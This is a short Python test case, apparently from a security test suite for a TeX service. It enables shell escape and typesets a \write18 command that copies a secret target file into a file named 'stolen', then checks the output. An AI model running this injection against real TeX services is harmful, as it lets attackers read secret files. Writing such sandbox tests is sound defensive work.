"""Lets TeX run a program."""
# expect: completed
# prepare: files
# job: timeout_s=38
import os

from attack import *


class Attack(Trial):
    def attack(self):
        os.environ.update(shell_escape="t")
        typeset(r"\immediate\write18{cat %s > stolen}" % TARGETS["secret"])
        look("what TeX wrote", typeset_contents())
